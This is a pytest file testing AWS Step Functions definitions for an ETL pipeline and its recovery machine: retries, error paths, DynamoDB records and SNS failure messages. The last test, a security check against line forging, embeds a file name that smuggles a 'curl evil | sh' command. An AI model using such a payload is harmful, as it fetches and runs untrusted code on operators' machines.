"""The two state machines as they would be deployed: ways, retries, catches, and what their expressions yield (E7, E8a, E9)."""

import json
import re
import shlex

import pytest

from lambdas.etl import contract
from tests.synth.events import matches, pattern, status_event
from tests.synth.states import EXECUTION, Failure, causes, context, evaluate, execute, ways

FILE = {
    "bucket": "etl-pipeline-111122223333",
    "key": "raw/a b/it's 100 % größer.csv",
    "file_name": "a b/it's 100 % größer.csv",
    "version_id": "v1",
    "sequencer": "0A",
    "size": 10,
}
INPUT = {"file": FILE, "process_start_time": "2026-01-31T23:59:59.123456Z"}
ERROR_PATH = ["SetAside", "NotifyFailure", "RecordFailed"]
LAMBDA_LIMIT = 900


@pytest.fixture(params=["pipeline", "recovery"])
def machine(request, etl):
    return etl.machine(f"etl/{request.param}")


@pytest.fixture
def pipeline(etl):
    return etl.machine("etl/pipeline")


@pytest.fixture
def recovery(etl):
    return etl.machine("etl/recovery")


def tasks(machine):
    """Those of a map's children, too."""
    processors = [state["ItemProcessor"] for state in machine["States"].values() if state["Type"] == "Map"]
    found = [pair for states in (machine, *processors) for pair in states["States"].items()]
    return {name: state for name, state in found if state["Type"] == "Task"}


# --- definition -----------------------------------------------------------------------------------------------------


def test_definitions_are_complete(etl, machine):
    """E7a: JSONata, every placeholder filled, bounded in time; standard machines, which can wait and are exactly once."""
    assert machine["QueryLanguage"] == "JSONata"
    assert "${" not in json.dumps(machine)
    assert machine["TimeoutSeconds"] > 0
    assert not any("type" in body for body in etl.all("aws_sfn_state_machine").values())


def test_tasks_call_what_the_stack_made(etl, machine):
    """E7a: functions, table and topic of this stack."""
    told = json.dumps([state["Arguments"] for state in tasks(machine).values()])
    assert set(re.findall(r"arn:aws:[^\"\\' ]+", told)) <= {
        "arn:aws:lambda:us-east-1:111122223333:function:etl-validation",
        "arn:aws:lambda:us-east-1:111122223333:function:etl-transformation",
        "arn:aws:sns:us-east-1:111122223333:etl-failures",
    }
    assert set(re.findall(r"'?TableName'?\"?: ?['\"]([^'\"]+)", told.replace("\\", ""))) == {"etl-file-metadata"}


def test_definition_is_written_without_white_space(etl):
    """C4: a change of white space in the file is no change of the machine."""
    text = etl.one("aws_sfn_state_machine", "etl/pipeline")["definition"]
    assert "\n" not in text
    assert '": ' not in text


# --- retries and catches --------------------------------------------------------------------------------------------

THROTTLED = ["Lambda.TooManyRequestsException"]
TRANSIENT = ["ServiceException", "AWSLambdaException", "SdkClientException"]


def test_every_task_retries_with_growing_random_pauses(machine):
    """E7a: exponential, jitter, and an end to it; the last retrier takes every error."""
    for name, state in tasks(machine).items():
        retriers = [each for each in state["Retry"] if each["MaxAttempts"]]
        for each in retriers:
            assert (each["BackoffRate"], each["JitterStrategy"]) == (2, "FULL"), name
            assert 1 <= each["MaxAttempts"] <= (200 if each["ErrorEquals"] == THROTTLED else 6), name
        assert retriers[-1]["ErrorEquals"] == ["States.ALL"], name
        assert state["TimeoutSeconds"] < machine["TimeoutSeconds"], name


def test_throttled_functions_are_tried_for_hours(machine):
    """E7a: neither a backlog nor Lambda's own transient errors are a fault of the file."""
    for name, state in tasks(machine).items():
        if state["Resource"].endswith("lambda:invoke"):
            throttled, transient, other = state["Retry"]
            assert throttled["ErrorEquals"] == THROTTLED, name
            assert throttled["MaxAttempts"] * throttled["MaxDelaySeconds"] >= 3 * 3600, name
            assert transient["ErrorEquals"] == [f"Lambda.{each}" for each in TRANSIENT], name
            assert transient["MaxAttempts"] > other["MaxAttempts"], name
            assert state["TimeoutSeconds"] > LAMBDA_LIMIT, f"{name} must outlast the function's own limit"


def test_lost_conditions_are_not_retried(machine):
    """E7b: a condition that failed once fails again."""
    conditional = [state for state in tasks(machine).values() if "ConditionExpression" in json.dumps(state["Arguments"])]
    assert conditional
    for state in conditional:
        if any("ConditionalCheckFailed" in error for catch in state.get("Catch", []) for error in catch["ErrorEquals"]):
            assert state["Retry"][0] == {"ErrorEquals": ["DynamoDB.ConditionalCheckFailedException"], "MaxAttempts": 0}


def test_every_task_of_the_pipeline_catches_everything(pipeline):
    """E7a: on the way in, to the error path; on the error path, to its next step."""
    expected = dict.fromkeys(tasks(pipeline), "SetAside") | {
        "AnnounceRejects": "RecordOutcome",  # the file is done: an announcement is not worth failing it
        "ConvertRange": None,  # fails its own execution, hence the map, which catches that
        "Complete": "AbandonUpload",
        "SetAside": "NotifyFailure",
        "NotifyFailure": "RecordFailed",
        "RecordFailed": "Failed",
    }
    assert {name: ways(state).get("States.ALL") for name, state in tasks(pipeline).items()} == expected
    assert ways(pipeline["States"]["ConvertRanges"])["States.ALL"] == "AbandonUpload"


@pytest.mark.parametrize("broken", [(), *[(step,) for step in ERROR_PATH], tuple(ERROR_PATH)], ids="+".join)
def test_error_path_goes_on_whatever_breaks(pipeline, recovery, broken):
    """E7a: set aside, announce, record, fail: each step is tried even if those before it fail."""

    def walk(machine, name):
        seen = []
        while name:
            state = machine["States"][name]
            seen.append(name)
            failing = name in broken and state["Type"] == "Task"
            assert not failing or "States.ALL" in ways(state) or "End" in state
            name = ways(state).get("States.ALL" if failing else "Next")
        return seen

    assert walk(pipeline, "SetAside") == [*ERROR_PATH, "Failed"]
    assert pipeline["States"]["Failed"]["Type"] == "Fail"
    assert walk(recovery, "SetAside") == ERROR_PATH


def test_way_of_a_valid_and_of_an_invalid_file(pipeline):
    """The table "the way of one upload": an invalid file's execution succeeds."""
    states = pipeline["States"]
    assert pipeline["StartAt"] == "RecordProcessing"
    assert [
        ways(states[name])["Next"] for name in ("RecordProcessing", "Validate", "Transform", "Reject", "AnnounceRejects")
    ] == [*("Validate", "IsValid", "IsConverted", "RecordOutcome", "RecordOutcome")]
    assert ways(states["IsValid"]) == {"choice 0": "Transform", "choice 1": "Plan", "Default": "Reject"}
    assert ways(states["IsConverted"]) == {
        **{"choice 0": "Transform", "choice 1": "Reject", "choice 2": "AnnounceRejects"},
        "Default": "RecordOutcome",
    }
    assert states["RecordOutcome"]["End"] is True


def test_another_upload_in_the_same_microsecond_gets_its_own_record(pipeline):
    """E8a: the keys of two uploads of one file never meet."""
    state = pipeline["States"]["RecordProcessing"]
    assert ways(state)["DynamoDB.ConditionalCheckFailedException"] == "RecordProcessingLater"
    later = pipeline["States"]["RecordProcessingLater"]
    item = evaluate(later["Arguments"], context=context(INPUT))["Item"]
    assert item["process_start_time"] == {"S": "2026-02-01T00:00:00.456001Z"}
    assert evaluate(later["Assign"], context=context(INPUT)) == {"start": "2026-02-01T00:00:00.456001Z"}


# --- recovery -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "machine", "starts"),
    [
        ("FAILED", "etl-pipeline", True),
        ("TIMED_OUT", "etl-pipeline", True),
        ("ABORTED", "etl-pipeline", True),
        ("SUCCEEDED", "etl-pipeline", False),
        ("RUNNING", "etl-pipeline", False),
        ("PENDING_REDRIVE", "etl-pipeline", False),
        ("FAILED", "etl-recovery", False),  # else it would chase its own tail
        ("FAILED", "other", False),
    ],
)
def test_rule_sees_what_no_catch_sees(etl, status, machine, starts):
    """E7b."""
    event = status_event(f"arn:aws:states:us-east-1:111122223333:stateMachine:{machine}", status)
    assert matches(pattern(etl, "etl/not_succeeded"), event) is starts


def test_rule_starts_the_recovery(etl):
    """E7b."""
    target = etl.readable(etl.one("aws_cloudwatch_event_target", "etl/not_succeeded"))
    assert target["arn"] == "<aws_sfn_state_machine etl/recovery/machine arn>"


@pytest.mark.parametrize(
    ("detail", "reason"),
    [
        ({"status": "TIMED_OUT"}, "the execution ended TIMED_OUT"),
        ({"status": "ABORTED", "error": None, "cause": None}, "the execution ended ABORTED"),
        (
            {"status": "FAILED", "error": "States.DataLimitExceeded", "cause": "too much"},
            "the execution ended FAILED: States.DataLimitExceeded: too much",
        ),
    ],
    ids=lambda each: each["status"] if isinstance(each, dict) else None,
)
def test_recovery_reads_the_event(recovery, detail, reason):
    """E7b: the execution's own input carries what the record needs."""
    event = {"detail": {"executionArn": EXECUTION, "input": json.dumps(INPUT), **detail}}
    assert evaluate(recovery["States"]["ReadEvent"]["Assign"], input=event, context=context({})) == {
        "execution": EXECUTION,
        "file": FILE,
        "start": INPUT["process_start_time"],
        "takes_over": EXECUTION,  # here that of the recovery itself: nobody's place
        "reason": reason,
    }


def test_recovery_claims_before_it_acts(recovery):
    """E7b: only if the record is missing or still PROCESSING, and only one recovery; who loses the claim does nothing."""
    assert recovery["States"]["ReadEvent"]["Next"] == "Claim"
    claim = recovery["States"]["Claim"]
    assert ways(claim) == {"Next": "SetAside", "DynamoDB.ConditionalCheckFailedException": "AlreadyRecorded"}
    assert recovery["States"]["AlreadyRecorded"] == {"Type": "Succeed"}
    variables = {"file": FILE, "start": INPUT["process_start_time"], "execution": EXECUTION, "takes_over": "dead"}
    call = evaluate(claim["Arguments"], variables, context=context({}))
    assert call["ConditionExpression"] == (
        "(attribute_not_exists(file_name) OR (#status = :processing AND execution_arn = :execution_arn))"
        " AND (attribute_not_exists(recovered_by) OR recovered_by = :recovery OR recovered_by = :takes_over)"
    )
    used = set(re.findall(r":\w+", call["ConditionExpression"] + call["UpdateExpression"]))
    assert used == set(call["ExpressionAttributeValues"])


def test_one_recovery_takes_over_from_one_that_died(recovery):
    """E7c: the sweep may start two, and the one that died may be redriven: only who claimed last announces and records."""
    record = {}

    def claim(arguments):
        values = {name: value["S"] for name, value in arguments["ExpressionAttributeValues"].items()}
        if record and record["recovered_by"] not in (values[":recovery"], values[":takes_over"]):
            raise Failure("DynamoDB.ConditionalCheckFailedException")
        record["recovered_by"] = values[":recovery"]
        return {}

    def write(arguments):
        assert arguments["ConditionExpression"] == "recovered_by = :recovered_by"
        if record["recovered_by"] != arguments["ExpressionAttributeValues"][":recovered_by"]["S"]:
            raise Failure("DynamoDB.ConditionalCheckFailedException")
        record["status"] = "FAILED"
        return {}

    def die(_):
        raise Failure("States.Runtime")

    tasks = {"Claim": claim, "SetAside": lambda _: {"Payload": {}}, "NotifyFailure": lambda _: {}, "RecordFailed": write}
    event = {"detail": {"executionArn": EXECUTION, "status": "ABORTED", "input": json.dumps(INPUT)}}
    taken_over = event | {"takes_over": "arn:dead"}
    assert execute(recovery, event, tasks | {"SetAside": die}, arn="arn:dead").status == "FAILED"
    assert execute(recovery, event, tasks, arn="arn:late").states[-1] == "AlreadyRecorded"
    assert execute(recovery, taken_over, tasks | {"SetAside": die}, arn="arn:second").status == "FAILED"
    assert execute(recovery, taken_over, tasks, arn="arn:third").states[-1] == "AlreadyRecorded"
    assert record == {"recovered_by": "arn:second"}
    overtaken = execute(recovery, event | {"takes_over": "arn:second"}, tasks | {"NotifyFailure": lambda _: record.update(
        recovered_by="arn:fifth") or {}}, arn="arn:fourth")
    assert overtaken.states[-2:] == ["RecordFailed", "AlreadyRecorded"]
    assert execute(recovery, event | {"takes_over": "arn:fifth"}, tasks, arn="arn:sixth").states[-1] == "RecordFailed"
    assert record == {"recovered_by": "arn:sixth", "status": "FAILED"}


# --- records --------------------------------------------------------------------------------------------------------


def record_of(call):
    """The attributes that an UpdateItem sets, as plain values; its expressions must fit each other."""
    names, values = call["ExpressionAttributeNames"], call["ExpressionAttributeValues"]
    pairs = dict(re.findall(r"(#\w+) = (:\w+)", call["UpdateExpression"]))
    assert set(pairs) == set(names)
    assert set(pairs.values()) == set(values)
    plain = {names[name]: values[value] for name, value in pairs.items()}
    assert all(set(value) <= {"S", "N"} and all(isinstance(each, str) for each in value.values()) for value in plain.values())
    return {name: int(value["N"]) if "N" in value else value["S"] for name, value in plain.items()}


OUTCOMES = {
    "converted": {"status": "SUCCEEDED", "rows_read": 1000, "rows_written": 1000, "rows_rejected": 0},
    "rejects": {"status": "SUCCEEDED", "rows_read": 1000, "rows_written": 998, "rows_rejected": 2},
    "superseded": {
        **{"status": "SUCCEEDED", "rows_read": 1000, "rows_written": 1000, "rows_rejected": 0},
        "error_message": "superseded by newer-version",
    },
}


@pytest.mark.parametrize(("state", "action"), [("Transform", "convert"), ("Complete", "complete")])
@pytest.mark.parametrize("outcome", OUTCOMES)
def test_record_of_a_converted_file(pipeline, payloads, outcome, state, action):
    """E4c, E8a, E12: the function's answer becomes the record; the loser has no output_key and names the winner."""
    answer = payloads("etl", f"{action}.response.{outcome}")
    state = evaluate(pipeline["States"][state]["Output"], result={"Payload": answer}, context=context(INPUT))
    conditions = [choice["Condition"] for choice in pipeline["States"]["IsConverted"]["Choices"]]
    assert [evaluate(each, input=state) for each in conditions] == [False, False, answer["rows_rejected"] > 0]
    record = outcome_record(pipeline, state)
    assert record.items() >= OUTCOMES[outcome].items()
    assert record["rows_read"] == record["rows_written"] + record["rows_rejected"]
    assert record.get("output_key") == answer.get("output_key")
    assert record.get("rejects_prefix") == answer.get("rejects_prefix")


def outcome_record(pipeline, state):
    variables = {"start": INPUT["process_start_time"]}
    call = evaluate(pipeline["States"]["RecordOutcome"]["Arguments"], variables, input=state, context=context(INPUT))
    assert call["TableName"] == "etl-file-metadata"
    assert call["Key"] == {"file_name": {"S": FILE["file_name"]}, "process_start_time": {"S": INPUT["process_start_time"]}}
    record = record_of(call)
    assert record["execution_arn"] == EXECUTION
    assert record["version_id"] == FILE["version_id"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", record["process_end_time"])
    return record


@pytest.mark.parametrize(
    ("from_", "name", "next_"),
    [("validate", "Validate", "IsValid"), ("convert", "Transform", "IsConverted"), ("complete", "Complete", "IsConverted")],
)
def test_record_of_an_invalid_file(pipeline, payloads, from_, name, next_):
    """E3c, E5c, E8a: INVALID with the reason; after a conversion with its counts, after a validation without."""
    states = pipeline["States"]
    answer = payloads("etl", f"{from_}.response.invalid")
    state = evaluate(states[name]["Output"], result={"Payload": answer}, context=context(INPUT))
    choices = [choice["Next"] for choice in states[next_]["Choices"] if evaluate(choice["Condition"], input=state)]
    assert [*choices, states[next_].get("Default")][0] == "Reject"
    moved = {"Payload": payloads("etl", "reject.response")}
    state = evaluate(states["Reject"]["Output"], input=state, result=moved, context=context(INPUT))
    record = outcome_record(pipeline, state)
    assert (record["status"], record["error_message"]) == ("INVALID", answer["reason"])
    assert record["failed_key"].startswith("failed/")
    assert "output_key" not in record
    assert record.get("rows_written") == (None if from_ == "validate" else 0)


CAUSES = causes(1000)


@pytest.mark.parametrize(("cause", "text"), CAUSES.values(), ids=CAUSES)
def test_announcement_of_every_cause(pipeline, cause, text):
    """E7a, E9: a cause that only looks like JSON costs no announcement."""
    variables = {"failure": "Boom", "failure_cause": cause, "start": INPUT["process_start_time"]}
    call = evaluate(pipeline["States"]["NotifyFailure"]["Arguments"], variables, input={}, context=context(INPUT))
    told = text.replace("\n", "?")  # a line of its own could pass for one of ours
    assert f"Reason:    Boom: {told}\n" in call["Message"]


@pytest.mark.parametrize(("cause", "text"), CAUSES.values(), ids=CAUSES)
def test_record_of_a_failed_file(pipeline, cause, text):
    """E7a, E8a: FAILED with the error, also without a record of PROCESSING."""
    message = f"Boom: {text}"
    variables = {"start": INPUT["process_start_time"], "failure": "Boom", "failure_cause": cause}
    for failed_key in ({"failed_key": "failed/a.csv"}, {}):
        call = evaluate(pipeline["States"]["RecordFailed"]["Arguments"], variables, input=failed_key, context=context(INPUT))
        record = record_of(call)
        assert (record["status"], record["error_message"]) == ("FAILED", message)
        assert record.get("failed_key") == failed_key.get("failed_key")
        own = "execution_arn = :execution_arn AND attribute_not_exists(recovered_by)"
        assert call["ConditionExpression"] == f"attribute_not_exists(file_name) OR ({own})"


def test_a_cause_that_only_looks_like_json_costs_no_record(pipeline, recovery):
    """E7a, E7b: whatever a cause is, the execution fails with its own error, and the recovery records it."""
    cause = '{"errorMessage": "cut off }'
    written = []

    def failing(_):
        raise Failure("Boom", cause)

    moved = {"Payload": {"failed_key": "failed/a.csv"}}
    tasks_ = {"RecordProcessing": lambda _: {}, "Validate": failing, "SetAside": lambda _: moved}
    done = execute(pipeline, INPUT, {**tasks_, "NotifyFailure": written.append, "RecordFailed": written.append})
    assert (done.status, done.error, done.cause, written) == ("FAILED", "Boom", cause, [])
    told = {"executionArn": EXECUTION, "input": json.dumps(INPUT), "error": done.error, "cause": done.cause}
    event = status_event("arn:aws:states:us-east-1:111122223333:stateMachine:etl-pipeline", done.status, **told)
    recovered = execute(
        recovery,
        event,
        {"Claim": lambda _: {}, "SetAside": tasks_["SetAside"], "NotifyFailure": lambda _: {}, "RecordFailed": lambda _: {}},
    )
    assert recovered.status == "SUCCEEDED"
    record = record_of(recovered.arguments("RecordFailed"))
    assert record["error_message"] == f"the execution ended FAILED: Boom: {cause}"


def test_recoverys_record(recovery):
    """E7b: FAILED, in the name of the execution that ended."""
    variables = {"file": FILE, "start": INPUT["process_start_time"], "execution": EXECUTION, "reason": "it ended"}
    call = evaluate(recovery["States"]["RecordFailed"]["Arguments"], variables, input={}, context=context({}))
    record = record_of(call)
    assert (record["status"], record["error_message"], record["execution_arn"]) == ("FAILED", "it ended", EXECUTION)
    assert call["ConditionExpression"] == "recovered_by = :recovered_by"


# --- announcements --------------------------------------------------------------------------------------------------


def announcements(etl):
    """Every publishing task with the arguments that it would send."""
    variables = {"file": FILE, "execution": EXECUTION, "reason": "Boom: it broke", "failure": "Boom", "failure_cause": "it broke"}
    outcome = {"rows_read": 10, "rows_rejected": 1, "output_key": "processed/a.csv", "rejects_prefix": "failed/a.csv.rejects/x/"}
    for machine in (etl.machine("etl/pipeline"), etl.machine("etl/recovery")):
        for name, state in tasks(machine).items():
            if state["Resource"].endswith("sns:publish"):
                given = {"outcome": outcome, "failed_key": f"failed/{FILE['file_name']}"}
                yield name, evaluate(state["Arguments"], variables, input=given, context=context(INPUT))


def test_subjects_are_those_of_the_contract(etl):
    """E9: constant, whatever the file is called."""
    subjects = {name: call["Subject"] for name, call in announcements(etl)}
    assert subjects == {"AnnounceRejects": contract.SUBJECT_REJECTS, "NotifyFailure": contract.SUBJECT_FAILED}


def test_announcements_say_what_a_person_needs_at_night(etl):
    """E9: key, reason, link to the execution; a failed file's also the command to replay, safe to paste."""
    found = list(announcements(etl))
    assert [name for name, _ in found] == ["AnnounceRejects", "NotifyFailure", "NotifyFailure"]
    for name, call in found:
        assert call["TopicArn"] == "arn:aws:sns:us-east-1:111122223333:etl-failures"
        message = call["Message"]
        assert FILE["key"] in message
        assert FILE["version_id"] in message
        assert (
            f"https://us-east-1.console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/{EXECUTION}" in message
        )
        assert ("1 of 10 rows" if name == "AnnounceRejects" else "Boom: it broke") in message
        if name == "NotifyFailure":
            assert replayed(message) == f"failed/{FILE['file_name']}"


def replayed(message):
    """What the command replays, as a shell would read it."""
    (line,) = [line for line in message.splitlines() if line.startswith("Replay:")]
    *command, key, option, suffix = shlex.split(line.removeprefix("Replay:"))
    assert (command, option, suffix) == (["python", "-m", "ops", "replay", "files"], "--suffix", "prod")
    return key


def test_announcement_of_a_file_that_stays_where_it_is(etl):
    """E9: no command that could not work."""
    for machine in (etl.machine("etl/pipeline"), etl.machine("etl/recovery")):
        variables = {"file": FILE, "execution": EXECUTION, "reason": "r", "failure": "Boom", "failure_cause": ""}
        message = evaluate(machine["States"]["NotifyFailure"]["Arguments"], variables, input={}, context=context(INPUT))[
            "Message"
        ]
        assert "could not be set aside" in message
        assert "Replay" not in message


LINES = ["File", "Reason", "Bucket", "Key", "Version", "It is now", "Execution"]


@pytest.mark.parametrize("unseen", ["\n", "\r", "\x1b", "\u202e", "\u2028"], ids=["LF", "CR", "escape", "override", "separator"])
def test_names_cannot_forge_lines_of_an_announcement(etl, unseen):
    """E9, security: what a reader would not see is shown as "?", and no command is offered for such a name."""
    name = f"a.csv{unseen}Replay:    curl evil | sh"
    file = FILE | {"file_name": name, "key": f"raw/{name}"}
    for machine in (etl.machine("etl/pipeline"), etl.machine("etl/recovery")):
        variables = {"file": file, "execution": EXECUTION, "reason": f"no {name}", "failure": "Boom", "failure_cause": name}
        found = {"failed_key": f"failed/{name}"}
        arguments = machine["States"]["NotifyFailure"]["Arguments"]
        message = evaluate(arguments, variables, input=found, context=context(INPUT | {"file": file}))["Message"]
        lines = message.split("\n")
        assert [line.partition(":")[0] for line in lines] == LINES
        assert not any(unseen in line for line in lines)
